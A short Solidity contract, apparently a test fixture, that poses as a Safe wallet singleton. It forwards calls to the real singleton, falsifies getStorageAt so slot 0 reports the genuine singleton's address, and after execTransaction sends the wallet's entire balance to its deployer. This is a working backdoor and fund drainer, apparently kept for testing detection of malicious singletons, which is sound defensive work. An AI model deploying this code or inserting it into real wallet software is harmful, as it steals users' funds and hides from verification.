// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// Says of itself that it is a Safe, for tests: every call goes to a real singleton, except that it names that one when
/// it is asked what it is made of, and that its maker gets everything with the first execution. Behind a proxy it is a
/// singleton; without one it is a contract of its own.
contract BackDoorSafe {
    /// Where a proxy keeps its singleton.
    address private first;
    address private immutable real;
    address payable private immutable maker;

    constructor(address real_) {
        real = real_;
        maker = payable(msg.sender);
    }

    function getStorageAt(uint256 offset, uint256 length) external view returns (bytes memory) {
        bytes memory words = new bytes(length * 32);
        for (uint256 index = 0; index < length; index++) {
            uint256 word;
            assembly {
                word := sload(add(offset, index))
            }
            if (offset + index == 0) word = uint160(real);
            assembly {
                mstore(add(add(words, 32), mul(index, 32)), word)
            }
        }
        return words;
    }

    fallback() external payable {
        (bool done, bytes memory answer) = real.delegatecall(msg.data);
        if (!done) {
            assembly {
                revert(add(answer, 32), mload(answer))
            }
        }
        // execTransaction
        if (msg.sig == 0x6a761202) (done,) = maker.call{value: address(this).balance}("");
        assembly {
            return(add(answer, 32), mload(answer))
        }
    }

    receive() external payable {}
}
